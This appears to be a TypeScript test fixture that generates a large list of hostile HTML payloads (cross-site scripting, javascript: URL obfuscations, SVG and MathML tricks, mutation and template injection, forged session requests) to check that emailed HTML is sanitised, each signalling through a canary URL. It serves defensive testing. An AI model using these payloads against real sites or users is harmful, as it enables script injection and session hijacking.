// Hostile HTML in emails or replies, against a viewer's browser.

/**
 * Each tries to run a script, which asks for `<canary>/ran`, to load something, which asks for `<canary>/load`, or to
 * send the person somewhere. One line each, in printable ASCII; the whole page is covered by a link where one has to
 * be clicked.
 */
export function hostileHtml(canary: string): string[] {
  const ran = `${canary}/ran`;
  const load = `${canary}/load`;
  const js = `new Image().src='${ran}'`;
  const page = `<script>${js}</script>`;
  const asData = `data:text/html;base64,${Buffer.from(page).toString("base64")}`;
  const cover = 'style="position:fixed;inset:0;display:block"';
  return [
    ...scripts(js, ran),
    ...handlers(js),
    ...pointers(js),
    ...links(js, asData, cover, ran),
    ...disguises(js, cover),
    ...drawings(js, asData, cover),
    ...names(js, ran),
    ...frames(page, asData, load, ran),
    ...styles(load, js),
    ...mutations(js),
    ...templates(js),
    ...requests(load, ran, cover),
  ];
}

function scripts(js: string, ran: string): string[] {
  const encoded = js.replace(/./g, (char) => `&#${char.charCodeAt(0)};`);
  return [
    `<script>${js}</script>`,
    `<script src="${ran}"></script>`,
    `<script type="module">${js}</script>`,
    `<script type="module" src="${ran}"></script>`,
    `<SCRIPT/x>${js}</SCRIPT>`,
    `</title><script>${js}</script>`,
    `</textarea></style></noscript><script>${js}</script>`,
    `--><script>${js}</script><!--`,
    `]]><script>${js}</script>`,
    `"><script>${js}</script>`,
    `'"></iframe><script>${js}</script>`,
    `<base href="${ran}/"><script src="x.js"></script>`,
    `<svg><script>${js}</script></svg>`,
    `<svg><script href="${ran}"></script></svg>`,
    `<svg><script>${encoded}</script></svg>`,
    `<math><script>${js}</script></math>`,
    `<script nomodule>${js}</script>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${ran}"]}]}</script>`,
    `<link rel="modulepreload" href="${ran}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${js}</script>`,
  ];
}

function handlers(js: string): string[] {
  return [
    `<img src=x onerror="${js}">`,
    `<img src=x onerror=${js}>`,
    `<img/src/onerror="${js}">`,
    `"><img src=x onerror="${js}">`,
    `<svg onload="${js}">`,
    `<svg><image href=x onerror="${js}"></svg>`,
    `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
    `<svg><set onbegin="${js}" attributeName=x to=y></svg>`,
    `<body onload="${js}">`,
    `<body onpageshow="${js}">`,
    `<video src=x onerror="${js}"></video>`,
    `<video><source src=x onerror="${js}"></video>`,
    `<audio src=x onerror="${js}"></audio>`,
    `<input autofocus onfocus="${js}">`,
    `<select autofocus onfocus="${js}"></select>`,
    `<textarea autofocus onfocus="${js}"></textarea>`,
    `<details open ontoggle="${js}"><summary>x</summary></details>`,
    `<marquee onstart="${js}">x</marquee>`,
    `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${js}">x</p>`,
    `<object data=x onerror="${js}"></object>`,
    `<iframe onload="${js}"></iframe>`,
    `<div contenteditable autofocus onfocus="${js}">x</div>`,
    `<p onmouseover="${js}" style="position:fixed;inset:0">x</p>`,
    `<button popovertarget=p style="position:fixed;inset:0">x</button><p popover id=p onbeforetoggle="${js}">y</p>`,
    `<link rel=stylesheet href=x onerror="${js}">`,
  ];
}

/** What a pointer that passes, or presses, sets off. */
function pointers(js: string): string[] {
  const events = [
    ...["click", "mousedown", "mouseup", "mousemove", "mouseenter", "mouseout", "auxclick", "contextmenu"],
    ...["pointerdown", "pointerup", "pointermove", "pointerover", "pointerenter", "pointerrawupdate"],
    ...["gotpointercapture", "selectstart", "focusin", "beforeinput", "wheel", "dragstart", "touchstart"],
  ];
  const moving = ["animationend", "animationiteration", "animationcancel", "transitionend", "transitionrun"];
  return [
    ...events.map((event) => `<p on${event}="${js}" style="position:fixed;inset:0" tabindex=0>x</p>`),
    ...moving.map(
      (event) =>
        `<style>@keyframes x{to{top:1px}}p{animation:x .01s 2;transition:.01s}p:hover{color:red}</style><p on${event}="${js}">x</p>`,
    ),
    ...["focus", "scroll", "resize", "hashchange", "message", "pagehide", "popstate", "beforeunload"].map(
      (event) => `<body on${event}="${js}"><a href="#x" id=x autofocus>x</a>`,
    ),
    `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==" onload="${js}">`,
    `<video autoplay src=x onloadstart="${js}" onstalled="${js}"></video>`,
    `<dialog open onclose="${js}" oncancel="${js}"><form method=dialog><button autofocus>x</button></form></dialog>`,
    `<input type=search autofocus onsearch="${js}" oninvalid="${js}" onblur="${js}">`,
  ];
}

function links(js: string, asData: string, cover: string, ran: string): string[] {
  return [
    `<a ${cover} href="javascript:${js}">x</a>`,
    `<a ${cover} target=_self href="javascript:${js}">x</a>`,
    `<a ${cover} target=_top href="javascript:${js}">x</a>`,
    `<a ${cover} target=_parent href="javascript:${js}">x</a>`,
    `<a ${cover} rel=opener target=_blank href="javascript:${js}">x</a>`,
    `<a ${cover} href="JaVaScRiPt:${js}">x</a>`,
    `<a ${cover} href="java&#9;script:${js}">x</a>`,
    `<a ${cover} href="java&#10;script&colon;${js}">x</a>`,
    `<a ${cover} href="&#1;javascript:${js}">x</a>`,
    `<a ${cover} href="vbscript:${js}">x</a>`,
    `<a ${cover} target=_self href="${asData}">x</a>`,
    `<a ${cover} target=_top href="${asData}">x</a>`,
    `<a ${cover} ping="${ran}" target=_self href="#x">x</a>`,
    `<a ${cover} download href="${asData}">x</a>`,
    `<svg ${cover}><a href="javascript:${js}"><rect width="999" height="999"/></a></svg>`,
    `<svg ${cover}><a xlink:href="javascript:${js}"><rect width="999" height="999"/></a></svg>`,
    `<math ${cover}><mi href="javascript:${js}">x</mi></math>`,
    `<map name=m><area shape=default href="javascript:${js}"></map><img usemap=#m ${cover} src=x>`,
    `<form action="javascript:${js}"><button ${cover}>x</button></form>`,
    `<form><button ${cover} formaction="javascript:${js}">x</button></form>`,
    `<form><input type=image ${cover} formaction="javascript:${js}"></form>`,
  ];
}

/** Addresses that are read as something harmless. */
function disguises(js: string, cover: string): string[] {
  return [
    ...[
      "javascript&colon;",
      "javascript&#58;",
      "javascript&#x3a;",
      "&#106;avascript:",
      "&#x6A;avascript&#0000058;",
    ],
    ...[
      "&Tab;javascript:",
      "&NewLine;javascript:",
      "java&#13;script:",
      "javascript&Tab;:",
      "&#31;javascript:",
    ],
    ...[
      "javascript://%0a",
      "javascript:/*--></title></style>*/",
      "javascript:'x';",
      "javascript:void ",
      "JAVASCRIPT:",
    ],
    ...["feed:javascript:", "view-source:javascript:", "jar:javascript:", "about:javascript:", "livescript:"],
  ].map((scheme) => `<a ${cover} target=_self href="${scheme}${js}">x</a>`);
}

/** SVG and MathML, where an attribute may be set after it was looked at. */
function drawings(js: string, asData: string, cover: string): string[] {
  const target = '<rect width="999" height="999"/>';
  return [
    `<svg ${cover}><a><animate attributeName=href values="javascript:${js}"/>${target}</a></svg>`,
    `<svg ${cover}><a><set attributeName=href to="javascript:${js}"/>${target}</a></svg>`,
    `<svg ${cover}><a id=x href="#"><animate href="#x" attributeName=href to="javascript:${js}"/>${target}</a></svg>`,
    `<svg><set attributeName=onload to="${js}"/></svg>`,
    `<svg><animate attributeName=x dur=1ms repeatCount=2 onend="${js}" onrepeat="${js}"/></svg>`,
    `<svg><animateTransform onbegin="${js}" attributeName=transform></svg>`,
    `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='x'&gt;#x"></svg>`,
    `<svg><use href="${asData}#x"/></svg>`,
    `<svg><feImage href="javascript:${js}"/></svg>`,
    `<svg><handler type="text/javascript">${js}</handler></svg>`,
    `<svg><foreignObject><iframe onload="${js}"></iframe></foreignObject></svg>`,
    `<svg><desc><![CDATA[</desc><script>${js}</script>]]></svg>`,
    `<math href="javascript:${js}" ${cover}><mtext>x</mtext></math>`,
    `<math><maction actiontype="statusline#x" href="javascript:${js}" ${cover}>x</maction></math>`,
    `<?xml version="1.0"?><?xml-stylesheet href="javascript:${js}"?><svg onload="${js}"/>`,
    `<!ENTITY x "<script>${js}</script>">&x;`,
  ];
}

/** Names that stand in the way of the page's own, and texts in a character set of their choice. */
function names(js: string, ran: string): string[] {
  const image = `<img src=x onerror=${js}>`;
  return [
    `<form id=document><input name=body></form>${image}`,
    `<img name=getElementById><img name=querySelector>${image}`,
    `<a id=location href="javascript:${js}"></a><a id=location name=href href="${ran}"></a>`,
    `<iframe name=parent srcdoc="&lt;a id=top href=${ran}&gt;"></iframe>`,
    `<form id=x><output name=__proto__></output></form>${image}`,
    `<meta charset=utf-7>+ADw-script+AD4-${js}+ADw-/script+AD4-`,
    `<meta http-equiv=content-type content="text/html;charset=iso-2022-jp">${image}`,
    `<p is=x-y onconnected="${js}"><x-y>${image}</x-y>`,
    `<slot name=x></slot><div slot=x>${image}</div>`,
  ];
}

function frames(page: string, asData: string, load: string, ran: string): string[] {
  const quoted = page.replaceAll('"', "&quot;");
  return [
    `<iframe src="${load}"></iframe>`,
    `<iframe srcdoc="${quoted}"></iframe>`,
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${quoted}"></iframe>`,
    `<iframe src="${asData}"></iframe>`,
    `<iframe src="javascript:new Image().src='${ran}'"></iframe>`,
    `<iframe src="/dashboard/emails"></iframe>`,
    `<frameset><frame src="${asData}"></frameset>`,
    `<object data="${asData}" type="text/html"></object>`,
    `<object data="${load}"></object>`,
    `<embed src="${asData}" type="text/html">`,
    `<embed src="${load}">`,
    `<portal src="${load}"></portal>`,
    `<meta http-equiv="refresh" content="0;url=${ran}">`,
    `<meta http-equiv="refresh" content="0;url=javascript:new Image().src='${ran}'">`,
    `<meta http-equiv="refresh" content="0;url=${asData}">`,
    `<meta http-equiv="set-cookie" content="sendlark_session=stolen">`,
  ];
}

function styles(load: string, js: string): string[] {
  return [
    `<style>@import url("${load}");</style>`,
    `<style>@import "${load}";</style>`,
    `<link rel="stylesheet" href="${load}">`,
    `<p style="background:url('${load}')">x</p>`,
    `<p style="background:url(javascript:${js})">x</p>`,
    `<style>@font-face{font-family:x;src:url("${load}")}p{font-family:x}</style><p>x</p>`,
    `<p style="width:expression(${js})">x</p>`,
    `<style>p{behavior:url("${load}");-moz-binding:url("${load}")}</style><p>x</p>`,
    `<style></style><script>${js}</script></style>`,
    `<svg><style>@import url("${load}");</style></svg>`,
  ];
}

/** Shapes that mean another thing when they are read a second time. */
function mutations(js: string): string[] {
  const image = `<img src=x onerror=${js}>`;
  return [
    `<noscript><p title="</noscript>${image}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><p><style><img src="</style>${image}//">`,
    `<math><annotation-xml encoding="text/html"><style></annotation-xml>${image}</style>`,
    `<template><script>${js}</script></template>${image}`,
    `<div><template shadowrootmode=open>${image}</template></div>`,
    `<select><template><style><!--</style>${image}--></template></select>`,
    `<xmp><p title="</xmp>${image}">`,
    `<plaintext>${image}`,
    `<![CDATA[><img src=x onerror=${js}>]]>`,
    `<!--><img src=x onerror=${js}>-->`,
    `<table><td background="javascript:${js}">${image}`,
    `<svg><foreignObject><body onload="${js}"></foreignObject></svg>`,
  ];
}

function templates(js: string): string[] {
  return [
    `{{constructor.constructor("${js}")()}}`,
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    `\${${js}}`,
    `{{{"__html":"<img src=x onerror=${js}>"}}}`,
    `dangerouslySetInnerHTML={{__html: "<img src=x onerror=${js}>"}}`,
    `<div ng-app>{{$on.constructor("${js}")()}}</div>`,
    `<div v-html="'<img src=x onerror=${js}>'" x-data x-init="${js}"></div>`,
  ];
}

/** Allowed or not, none of these may come with a session. */
function requests(load: string, ran: string, cover: string): string[] {
  return [
    `<img src="${load}">`,
    `<img srcset="${load} 1x">`,
    `<picture><source srcset="${load}"><img src="${load}"></picture>`,
    `<img src="/dashboard/api/session">`,
    `<form id=f action="${ran}" method=post><button ${cover}>x</button></form>`,
    `<form action="/dashboard/api/session/end" method=post><button ${cover}>x</button></form>`,
    `<video src="${load}" poster="${load}" autoplay></video>`,
    `<link rel="icon" href="${load}"><link rel="prefetch" href="${load}"><link rel="preconnect" href="${load}">`,
    `<svg><image href="${load}"/><use href="${load}#x"/></svg>`,
    `<input type="image" src="${load}"><table background="${load}"></table>`,
  ];
}
